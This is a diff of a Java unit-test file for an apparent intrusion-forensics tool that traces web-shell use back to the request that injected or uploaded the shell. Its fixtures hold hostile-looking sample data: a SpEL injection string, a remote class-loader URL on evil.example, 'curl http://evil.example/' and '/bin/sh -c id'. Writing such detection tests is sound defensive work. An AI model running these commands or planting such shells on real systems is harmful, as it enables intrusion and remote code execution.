@@ -10,7 +10,10 @@ import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.ValueSource;
 import whorl.collector.timeline.Row;
 
-/** What a shell does is told with what brought the shell in, and not as a break-in of its own. */
+/**
+ * The use of a web shell is reported with the request that added the shell, and not as a break-in
+ * of its own.
+ */
 class UseOfShellTest {
   private static final String ADDRESS = "203.0.113.7";
   private static final String NOTHING = "Nothing in this evidence shows";
@@ -21,7 +24,7 @@ class UseOfShellTest {
 
   private final Rows rows = new Rows();
 
-  private Finding way(String title) throws Exception {
+  private Finding wayIn(String title) throws Exception {
     Report report = Evidences.report(rows);
     return Rows.of(report, "way-in").stream()
         .filter(each -> each.title().equals(title))
@@ -30,7 +33,7 @@ class UseOfShellTest {
             () -> new AssertionError(title + " is not in " + report.findings().toString()));
   }
 
-  private List<String> ways() throws Exception {
+  private List<String> waysIn() throws Exception {
     return Rows.of(Evidences.report(rows), "way-in").stream().map(Finding::title).toList();
   }
 
@@ -40,7 +43,7 @@ class UseOfShellTest {
         .toArray(String[]::new);
   }
 
-  private Row injected(String className) {
+  private Row addInjection(String className) {
     rows.of("r1", "whorl.ScriptEval", "engine", "spel", "source", "T(java.lang.Runtime).x");
     Row row = rows.of("r1", "whorl.ClassDefine", "className", className, "origin", "lookup");
     rows.request("r1", "POST", "/inject", "", ADDRESS, 200);
@@ -58,8 +61,8 @@ class UseOfShellTest {
         "x.Shell$$Lambda$412",
         "x.Hidden/0x000078aa14001800",
       })
-  void use_ofAClassThatARequestBrought_isToldWithThatRequest(String name) throws Exception {
-    Row defined = injected(name);
+  void use_ofAClassThatARequestAdded_namesThatRequest(String name) throws Exception {
+    Row defined = addInjection(name);
     rows.of(
         "r1",
         "class.found",
@@ -77,7 +80,7 @@ class UseOfShellTest {
     rows.of("r2", "whorl.ProcessStart", "command", "/bin/sh -c id", "pid", 7);
     rows.request("r2", "GET", "/hello", "", ADDRESS, 200);
 
-    Finding use = way("Use of the class " + name.replaceAll("/0x.*", "") + " through GET /hello");
+    Finding use = wayIn("Use of the class " + name.replaceAll("/0x.*", "") + " through GET /hello");
 
     assertThat(use.severity()).isEqualTo(Severity.CRITICAL);
     assertThat(use.text())
@@ -86,12 +89,12 @@ class UseOfShellTest {
         .doesNotContain(NOTHING);
     assertThat(use.rows()).contains(defined.id());
     assertThat(use.techniques()).contains(Technique.WEB_SHELL);
-    assertThat(ways()).hasSize(2).first().asString().contains("POST /inject");
+    assertThat(waysIn()).hasSize(2).first().asString().contains("POST /inject");
   }
 
   @Test
   void use_ofAClassWhoseStackIsFromTheRecording_isKnownToo() throws Exception {
-    injected("x.Shell");
+    addInjection("x.Shell");
     rows.on(
         "java.lang.ProcessBuilder.start(line 1143)",
         "x.Shell.doFilter(line 9)",
@@ -99,26 +102,26 @@ class UseOfShellTest {
     rows.of("r2", "whorl.ProcessStart", "command", "id", "pid", 7);
     rows.request("r2", "GET", "/hello", "", ADDRESS, 200);
 
-    assertThat(ways()).contains("Use of the class x.Shell through GET /hello");
+    assertThat(waysIn()).contains("Use of the class x.Shell through GET /hello");
   }
 
   @Test
   void use_ofAClassOfOneRequestThatAnotherRegistered_namesBoth() throws Exception {
-    injected("x.Shell");
+    addInjection("x.Shell");
     rows.of("r2", "whorl.Registration", "kind", "filter", "className", "x.Shell", "target", "/*");
     rows.request("r2", "POST", "/register", "", ADDRESS, 200);
     rows.on(stack("java.lang.ProcessBuilder.start(P.java:1)", "x.Shell.doFilter(S.java:1)"));
     rows.of("r3", "whorl.ProcessStart", "command", "id", "pid", 7);
     rows.request("r3", "GET", "/any", "", ADDRESS, 200);
 
-    assertThat(way("Use of the class x.Shell through GET /any").text())
+    assertThat(wayIn("Use of the class x.Shell through GET /any").text())
         .contains("the request POST /inject defined it")
         .contains("the request POST /register registered it as filter for /*");
   }
 
   @Test
   void aRequestThatAFilterOnlyPassesOn_isNoUseOfIt() throws Exception {
-    injected("x.Shell");
+    addInjection("x.Shell");
     rows.on(
         "java.lang.ProcessBuilder.start(P.java:1)",
         "shop.Convert.run(Convert.java:7)",
@@ -128,19 +131,19 @@ class UseOfShellTest {
     rows.of("r2", "whorl.ProcessStart", "command", "/bin/sh -c id", "pid", 7);
     rows.request("r2", "GET", "/convert", "", ADDRESS, 200);
 
-    assertThat(way("Way in: a command run by a request through GET /convert").text())
+    assertThat(wayIn("Way in: a command run by a request through GET /convert").text())
         .contains(NOTHING);
   }
 
   @Test
-  void aRequestThatBringsAClassAndRunsIt_isTheWayInItself() throws Exception {
+  void aRequestThatAddsAClassAndRunsIt_isTheWayIn() throws Exception {
     rows.of("r1", "whorl.LoaderCreate", "urls", "http://evil.example/a.jar");
     rows.of("r1", "whorl.ClassDefine", "className", "x.Evil", "origin", "loader");
     rows.on(stack("java.lang.ProcessBuilder.start(P.java:1)", "x.Evil.<clinit>(E.java:1)"));
     rows.of("r1", "whorl.ProcessStart", "command", "id", "pid", 7);
     rows.request("r1", "POST", "/yaml", "", ADDRESS, 200);
 
-    assertThat(ways())
+    assertThat(waysIn())
         .containsExactly("Way in: a class loader with a remote address through POST /yaml");
   }
 
@@ -165,8 +168,8 @@ class UseOfShellTest {
                 "reason",
                 "the place that it says it came from does not have it")));
 
-    assertThat(way("Use of the class a.Forged through GET /hello").text())
-        .contains("the capture says of it: the place that it says it came from does not have it")
+    assertThat(wayIn("Use of the class a.Forged through GET /hello").text())
+        .contains("the capture reports: the place that it says it came from does not have it")
         .doesNotContain(NOTHING);
   }
 
@@ -178,26 +181,26 @@ class UseOfShellTest {
     rows.of("r2", "whorl.ProcessStart", "command", "id", "pid", 7);
     rows.request("r2", "GET", "/hello", "", ADDRESS, 200);
 
-    assertThat(way("Use of the class Evil through GET /hello").text())
+    assertThat(wayIn("Use of the class Evil through GET /hello").text())
         .contains("loaded it from http://evil.example/");
   }
 
   @Test
-  void use_byAThread_isToldWithTheRequestThatBroughtItsClass() throws Exception {
-    injected("x.Worker");
+  void use_byAThread_namesTheRequestThatAddedItsClass() throws Exception {
+    addInjection("x.Worker");
     rows.thread("Timer-7").on("java.lang.ProcessBuilder.start(P.java:1)", "x.Worker.run(W.java:1)");
     rows.event("whorl.ProcessStart", "command", "curl http://evil.example/", "pid", 7);
     rows.thread("Timer-7").on("java.lang.ProcessBuilder.start(P.java:1)", "x.Worker.run(W.java:1)");
     rows.event("whorl.ProcessStart", "command", "id", "pid", 8);
 
-    Finding use = way("Use of the class x.Worker by the thread Timer-7");
+    Finding use = wayIn("Use of the class x.Worker by the thread Timer-7");
 
     assertThat(use.severity()).isEqualTo(Severity.CRITICAL);
     assertThat(use.text())
         .contains("start curl http://evil.example/, and start id")
         .contains("the request POST /inject defined it");
     assertThat(use.rows()).hasSize(3);
-    assertThat(ways()).hasSize(2);
+    assertThat(waysIn()).hasSize(2);
   }
 
   @ParameterizedTest
@@ -206,25 +209,24 @@ class UseOfShellTest {
     "/opt/tomcat/webapps/shop/up/a-b.jsp, /shop/up/a-b.jsp;jsessionid=1",
     "/srv/site/up/a.jsp, /ctx/up/a.jsp",
   })
-  void use_ofAPageThatARequestWrote_isToldWithThatRequest(String file, String path)
-      throws Exception {
+  void use_ofAPageThatARequestWrote_namesThatRequest(String file, String path) throws Exception {
     rows.of("r1", "whorl.FileOpen", "path", file, "access", "write", "created", true);
     rows.request("r1", "POST", "/upload", "", ADDRESS, 200);
     rows.later(5_000);
     rows.of("r2", "whorl.ProcessStart", "command", "id", "pid", 7);
     rows.request("r2", "GET", path, "pwd=j", ADDRESS, 200);
 
-    Finding use = way("Use of the page " + file + " through GET " + path);
+    Finding use = wayIn("Use of the page " + file + " through GET " + path);
 
     assertThat(use.text()).contains("the request POST /upload wrote it at 09:35:30.001");
-    assertThat(way("Way in: a file of code written through POST /upload").severity())
+    assertThat(wayIn("Way in: a file of code written through POST /upload").severity())
         .isEqualTo(Severity.CRITICAL);
-    assertThat(way("Way in: a file of code written through POST /upload").text())
+    assertThat(wayIn("Way in: a file of code written through POST /upload").text())
         .contains("was used later on")
         .doesNotContain(NOTHING);
     Report report = Evidences.report(rows);
     assertThat(report.summary())
-        .contains("The gravest way in began at 2026-11-25 09:35:29")
+        .contains("The most severe way in began at 2026-11-25 09:35:29")
         .contains("a file of code written through POST /upload")
         .doesNotContain(NOTHING);
   }
@@ -249,11 +251,11 @@ class UseOfShellTest {
     rows.of("r2", "whorl.ProcessStart", "command", "id", "pid", 7);
     rows.request("r2", "GET", "/", "", ADDRESS, 200);
 
-    assertThat(ways()).contains("Use of the page /opt/webapps/ROOT/in-dex.jsp through GET /");
+    assertThat(waysIn()).contains("Use of the page /opt/webapps/ROOT/in-dex.jsp through GET /");
   }
 
   @Test
-  void compilingAPage_isPartOfItsUse_andNoDeedOfItsOwn() throws Exception {
+  void compilingAPage_isPartOfItsUse_andNoFindingOfItsOwn() throws Exception {
     String work = "/opt/tomcat/work/Catalina/localhost/ROOT/org/apache/jsp/a_jsp.";
     rows.of("r1", "whorl.FileOpen", "path", "/opt/tomcat/webapps/ROOT/a.jsp", "access", "write");
     rows.request("r1", "POST", "/upload", "", ADDRESS, 200);
@@ -284,13 +286,13 @@ class UseOfShellTest {
         .containsExactly("Wrote /opt/tomcat/webapps/ROOT/a.jsp");
     assertThat(report.findings())
         .noneMatch(each -> each.techniques().contains(Technique.FILE_DELETION));
-    Finding use = way("Use of the page /opt/tomcat/webapps/ROOT/a.jsp through GET /a.jsp");
+    Finding use = wayIn("Use of the page /opt/tomcat/webapps/ROOT/a.jsp through GET /a.jsp");
     assertThat(use.text()).contains("2 files of its work folder are the compiler's own");
     assertThat(use.rows()).contains(written.id());
   }
 
   @Test
-  void whatAShellDeletesBesideThePage_isItsOwnDeed() throws Exception {
+  void otherFilesThatAShellDeletes_areReported() throws Exception {
     rows.of("r1", "whorl.FileOpen", "path", "/opt/webapps/ROOT/a.jsp", "access", "write");
     rows.request("r1", "POST", "/upload", "", ADDRESS, 200);
     rows.on(
@@ -305,7 +307,7 @@ class UseOfShellTest {
   }
 
   @Test
-  void aClassThatNoRequestBrought_mayBeALibrarys_andIsOnlyNamed() throws Exception {
+  void aClassThatNoRequestAdded_mayBeALibrarys_andIsOnlyNamed() throws Exception {
     rows.event("whorl.ClassDefine", "className", "shop.Cart$$Fast", "origin", "lookup");
     rows.on(
         stack(
@@ -315,14 +317,14 @@ class UseOfShellTest {
     rows.of("r2", "whorl.ProcessStart", "command", "/bin/sh -c id", "pid", 7);
     rows.request("r2", "GET", "/cart", "", ADDRESS, 200);
 
-    assertThat(way("Way in: a command run by a request through GET /cart").text())
+    assertThat(wayIn("Way in: a command run by a request through GET /cart").text())
         .contains("The class shop.Cart$$Fast: the thread main defined it")
         .contains("does not know whether a library made it")
         .doesNotContain(NOTHING);
   }
 
   @Test
-  void aClassThatNothingSuspectBrought_makesNoRequestSuspect() throws Exception {
+  void aClassThatNothingSuspectAdded_makesNoRequestSuspect() throws Exception {
     rows.of("r1", "whorl.ClassDefine", "className", "shop.Cart$$Fast", "origin", "lookup");
     rows.request("r1", "GET", "/cart", "", "10.0.0.1", 200);
     rows.on(stack("java.io.F.x(F.java:1)", "shop.Cart$$Fast.print(Unknown Source)"));
@@ -334,18 +336,18 @@ class UseOfShellTest {
         .on("java.lang.ProcessBuilder.start(P.java:1)", "shop.Cart$$Fast.print(U:1)");
     rows.event("whorl.ProcessStart", "command", "/usr/bin/ffmpeg -i a b", "pid", 8);
 
-    assertThat(ways()).isEmpty();
+    assertThat(waysIn()).isEmpty();
   }
 
   @Test
   void aNameThatAnOrdinaryClassHasToo_provesNothing() throws Exception {
-    injected("shop.Convert");
+    addInjection("shop.Convert");
     rows.event("whorl.ClassLoad", "className", "shop.Convert", "codeSource", "file:/app/shop.jar");
     rows.on(stack("java.lang.ProcessBuilder.start(P.java:1)", "shop.Convert.run(C.java:1)"));
     rows.of("r2", "whorl.ProcessStart", "command", "/bin/sh -c id", "pid", 7);
     rows.request("r2", "GET", "/convert", "", ADDRESS, 200);
 
-    assertThat(ways()).contains("Way in: a command run by a request through GET /convert");
+    assertThat(waysIn()).contains("Way in: a command run by a request through GET /convert");
   }
 
   @Test
@@ -357,7 +359,8 @@ class UseOfShellTest {
     rows.of("r2", "whorl.ProcessStart", "command", "/bin/sh -c id", "pid", 7);
     rows.request("r2", "GET", "/a/run.jsp", "", ADDRESS, 200);
 
-    assertThat(ways()).containsExactly("Way in: a command run by a request through GET /a/run.jsp");
+    assertThat(waysIn())
+        .containsExactly("Way in: a command run by a request through GET /a/run.jsp");
   }
 
   @Test
@@ -369,7 +372,8 @@ class UseOfShellTest {
     rows.of("r2", "whorl.ProcessStart", "command", "/bin/sh -c id", "pid", 7);
     rows.request("r2", "GET", "/a/admin/run.jsp", "", ADDRESS, 200);
 
-    assertThat(ways()).contains("Way in: a command run by a request through GET /a/admin/run.jsp");
+    assertThat(waysIn())
+        .contains("Way in: a command run by a request through GET /a/admin/run.jsp");
   }
 
   @Test
@@ -380,12 +384,12 @@ class UseOfShellTest {
     rows.of("r2", "whorl.ProcessStart", "command", "/bin/sh -c id", "pid", 7);
     rows.request("r2", "GET", "/convert", "", ADDRESS, 200);
 
-    assertThat(way("Way in: a command run by a request through GET /convert").text())
+    assertThat(wayIn("Way in: a command run by a request through GET /convert").text())
         .contains(NOTHING);
   }
 
   @Test
-  void aHiddenClass_whoseFramesAreOnNoStack_isNamedAsWhatMayHaveDoneIt() throws Exception {
+  void aHiddenClass_whoseFramesAreOnNoStack_isNamedAsPossibleCause() throws Exception {
     rows.of(
         "r1",
         "whorl.ClassDefine",
@@ -401,19 +405,20 @@ class UseOfShellTest {
     rows.of("r2", "whorl.ProcessStart", "command", "/bin/sh -c id", "pid", 7);
     rows.request("r2", "GET", "/any", "", ADDRESS, 200);
 
-    assertThat(way("Way in: a command run by a request through GET /any").text())
-        .contains("A hidden class came in before", "x.Hidden: the request POST /inject defined it")
+    assertThat(wayIn("Way in: a command run by a request through GET /any").text())
+        .contains(
+            "A hidden class was added before", "x.Hidden: the request POST /inject defined it")
         .doesNotContain(NOTHING);
   }
 
   @Test
   void anAlertWhoseStackHasTheShell_isItsUse() throws Exception {
-    injected("x.Shell");
+    addInjection("x.Shell");
     rows.on(stack("java.net.Socket.connect(S.java:1)", "x.Shell.doFilter(S.java:1)"));
     rows.alert("r2", "Connection to a Strange Port", "high");
     rows.request("r2", "GET", "/hello", "", ADDRESS, 200);
 
-    assertThat(way("Use of the class x.Shell through GET /hello").text())
+    assertThat(wayIn("Use of the class x.Shell through GET /hello").text())
         .contains("do what the rule \"Connection to a Strange Port\" looks for");
   }
 
@@ -421,14 +426,14 @@ class UseOfShellTest {
   void summary_beginsAtTheFirstWayInOfTheChain_notAtTheServersStart() throws Exception {
     rows.event("whorl.JndiLookup", "name", "ldap://directory.corp/cn=shop");
     rows.later(60_000);
-    injected("x.Shell");
+    addInjection("x.Shell");
     rows.later(1_000);
     rows.on(stack("java.lang.ProcessBuilder.start(P.java:1)", "x.Shell.doFilter(S.java:1)"));
     rows.of("r2", "whorl.ProcessStart", "command", "id", "pid", 7);
     rows.request("r2", "GET", "/hello", "", ADDRESS, 200);
 
     assertThat(Evidences.report(rows).summary())
-        .contains("The gravest way in began at 2026-11-25 09:36:29.984 UTC")
+        .contains("The most severe way in began at 2026-11-25 09:36:29.984 UTC")
         .contains(
             "expression injection through POST /inject, by 203.0.113.7; there was also use of")
         .contains("Between 09:36:29.984 and ");
